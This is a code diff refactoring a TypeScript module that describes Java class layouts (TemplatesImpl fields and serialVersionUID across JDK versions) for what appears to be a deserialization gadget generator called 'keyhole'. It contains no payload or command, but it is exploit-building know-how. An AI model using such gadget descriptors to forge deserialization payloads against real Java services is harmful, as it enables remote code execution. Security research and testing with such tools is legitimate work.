@@ -2,7 +2,7 @@
  * Class descriptors of the JDK and commons-collections classes keyhole's Java gadgets are made of:
  * names, serialVersionUIDs (as `serialver` reports them) and serializable fields in stream order.
  */
-import { type ClassDescriptor, SC_SERIALIZABLE, SC_WRITE_METHOD } from './java-serialization.js';
+import { type ClassDescriptor, type Field, SC_SERIALIZABLE, SC_WRITE_METHOD } from './java-serialization.js';
 
 const SERIALIZABLE_WITH_WRITE_METHOD = SC_SERIALIZABLE | SC_WRITE_METHOD;
 
@@ -233,62 +233,52 @@ export const JDK = {
   traxFilter: plainClass('com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter'),
 } as const satisfies Record<string, ClassDescriptor>;
 
-const TEMPLATES_IMPL = 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl';
-const TEMPLATES_IMPL_UID = 673094361519270707n;
-const XSLTC_HASHTABLE = 'Lcom/sun/org/apache/xalan/internal/xsltc/runtime/Hashtable;';
+/** The fields of every form of TemplatesImpl. */
+const TEMPLATES_IMPL_FIELDS: readonly Field[] = [
+  { name: '_indentNumber', type: 'I' },
+  { name: '_transletIndex', type: 'I' },
+  { name: '_bytecodes', type: '[[B' },
+  { name: '_class', type: '[Ljava/lang/Class;' },
+  { name: '_name', type: STRING },
+  { name: '_outputProperties', type: 'Ljava/util/Properties;' },
+];
+
+/** TemplatesImpl with `extra` fields: in stream order, primitive fields first, each group by name. */
+function templatesImpl(extra: readonly Field[]): ClassDescriptor {
+  const primitive = (field: Field) => field.type.length === 1;
+  const byName = (a: Field, b: Field) => (a.name < b.name ? -1 : 1);
+  const fields = [...TEMPLATES_IMPL_FIELDS, ...extra];
+  return {
+    name: 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl',
+    serialVersionUid: 673094361519270707n,
+    flags: SERIALIZABLE_WITH_WRITE_METHOD,
+    fields: [
+      ...fields.filter(primitive).sort(byName),
+      ...fields.filter((field) => !primitive(field)).sort(byName),
+    ],
+  };
+}
+
+const USE_SERVICES_MECHANISM: Field = { name: '_useServicesMechanism', type: 'Z' };
+const AUX_CLASSES: Field = {
+  name: '_auxClasses',
+  type: 'Lcom/sun/org/apache/xalan/internal/xsltc/runtime/Hashtable;',
+};
 
 /**
  * TemplatesImpl as three JDKs write it: its fields changed, its serialVersionUID did not. A JDK reads
  * the fields it knows from any of them and drops the others.
  */
 export const TEMPLATES_IMPL_FORMS = {
-  /** JDK 7. */
-  jdk7: {
-    name: TEMPLATES_IMPL,
-    serialVersionUid: TEMPLATES_IMPL_UID,
-    flags: SERIALIZABLE_WITH_WRITE_METHOD,
-    fields: [
-      { name: '_indentNumber', type: 'I' },
-      { name: '_transletIndex', type: 'I' },
-      { name: '_useServicesMechanism', type: 'Z' },
-      { name: '_auxClasses', type: XSLTC_HASHTABLE },
-      { name: '_bytecodes', type: '[[B' },
-      { name: '_class', type: '[Ljava/lang/Class;' },
-      { name: '_name', type: STRING },
-      { name: '_outputProperties', type: 'Ljava/util/Properties;' },
-    ],
-  },
+  jdk7: templatesImpl([USE_SERVICES_MECHANISM, AUX_CLASSES]),
   /** JDK 8 before update 40. */
-  jdk8: {
-    name: TEMPLATES_IMPL,
-    serialVersionUid: TEMPLATES_IMPL_UID,
-    flags: SERIALIZABLE_WITH_WRITE_METHOD,
-    fields: [
-      { name: '_indentNumber', type: 'I' },
-      { name: '_transletIndex', type: 'I' },
-      { name: '_useServicesMechanism', type: 'Z' },
-      { name: '_accessExternalStylesheet', type: STRING },
-      { name: '_auxClasses', type: XSLTC_HASHTABLE },
-      { name: '_bytecodes', type: '[[B' },
-      { name: '_class', type: '[Ljava/lang/Class;' },
-      { name: '_name', type: STRING },
-      { name: '_outputProperties', type: 'Ljava/util/Properties;' },
-    ],
-  },
+  jdk8: templatesImpl([
+    USE_SERVICES_MECHANISM,
+    AUX_CLASSES,
+    { name: '_accessExternalStylesheet', type: STRING },
+  ]),
   /** Its serialPersistentFields since (JDK 8u40 to this day). */
-  current: {
-    name: TEMPLATES_IMPL,
-    serialVersionUid: TEMPLATES_IMPL_UID,
-    flags: SERIALIZABLE_WITH_WRITE_METHOD,
-    fields: [
-      { name: '_indentNumber', type: 'I' },
-      { name: '_transletIndex', type: 'I' },
-      { name: '_bytecodes', type: '[[B' },
-      { name: '_class', type: '[Ljava/lang/Class;' },
-      { name: '_name', type: STRING },
-      { name: '_outputProperties', type: 'Ljava/util/Properties;' },
-    ],
-  },
+  current: templatesImpl([]),
 } as const satisfies Record<string, ClassDescriptor>;
 
 const TRANSFORMER_4 = 'Lorg/apache/commons/collections4/Transformer;';
